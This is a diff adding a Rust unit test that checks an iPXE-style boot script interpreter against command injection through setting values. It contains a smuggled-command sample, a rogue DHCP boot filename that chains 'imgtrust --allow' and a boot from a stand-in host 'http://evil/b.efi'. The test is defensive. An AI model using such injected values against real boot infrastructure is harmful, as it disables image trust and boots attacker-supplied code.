@@ -215,3 +215,29 @@ fn chained_scripts_are_bounded() {
     let err = i.run("chain http://s/loop.ipxe\n", None).unwrap_err();
     assert!(err.to_string().contains("scripts chained more than 8 deep"), "{err}");
 }
+
+#[test]
+fn setting_values_cannot_inject_commands() {
+    // A rogue DHCP server's boot file name, shaped to turn imgtrust off and boot its own
+    // image: it must stay one argument.
+    let evil = b"MZ evil".to_vec();
+    let m = machine(&[("http://evil/b.efi", &evil)]);
+    let mut i = Interpreter::new(m, TrustPolicy { required: true, permanent: false, all_images: false });
+    i.set("net0/filename", "http://s/a.efi || imgtrust --allow && chain http://evil/b.efi");
+    let err = i.run("#!ipxe\nchain ${filename}\n", None).unwrap_err();
+    assert!(
+        err.message.contains("http://s/a.efi || imgtrust --allow && chain http://evil/b.efi: HTTP 404"),
+        "{err}"
+    );
+    assert!(i.machine.booted.is_empty());
+    assert!(i.trust().required);
+    // Quoted or escaped operators are arguments too.
+    let mut i = Interpreter::new(machine(&[]), TrustPolicy::default());
+    i.run("echo a \"||\" b \\&& c\n", None).unwrap();
+    assert_eq!(i.machine.out, "a || b && c\n");
+    // A value with spaces stays one argument; the kernel command line joins them anyway.
+    let mut i = Interpreter::new(machine(&[("http://s/k", b"k")]), TrustPolicy::default());
+    i.set("args", "console=ttyS0 quiet");
+    let _ = i.run("kernel http://s/k ${args} panic=-1\nboot\n", None);
+    assert_eq!(i.machine.booted[0].1, "console=ttyS0 quiet panic=-1");
+}
